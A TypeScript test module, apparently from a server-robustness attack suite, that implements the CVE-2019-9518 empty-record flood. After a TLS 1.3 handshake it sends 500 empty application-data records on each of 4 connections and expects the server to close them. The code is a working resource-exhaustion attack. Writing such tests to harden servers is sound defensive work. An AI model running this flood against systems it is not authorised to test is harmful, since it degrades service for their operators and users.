// Records of TLS 1.3 with nothing in them.

import type { Attack } from '../attack.ts'
import { attackConnections } from '../wire/connections.ts'
import { APPLICATION_DATA, HostileTls13 } from '../wire/tls13.ts'

const RECORDS = 500
const NOTHING = Buffer.alloc(0)

export const attack: Attack = {
  reference: 'CVE-2019-9518, empty records',
  does: 'sends records without data on 4 connections',
  who: ['unknown'],
  answers: [],
  must: ['closed'],
  run: (target, signal) =>
    attackConnections(target, signal, { connections: 4, transport: 'tcp' }, (wire) => {
      const tls = new HostileTls13(target.host)
      const pending: Buffer[] = [tls.hello]
      return {
        next() {
          const bytes = pending.shift()
          if (bytes !== undefined || !tls.isReady) return bytes
          return Buffer.concat(Array.from({ length: RECORDS }, () => tls.protect(APPLICATION_DATA, NOTHING)))
        },
        receive(bytes) {
          const answer = tls.receive(bytes)
          if (answer === undefined) return
          pending.push(answer)
          wire.more()
        },
      }
    }),
}
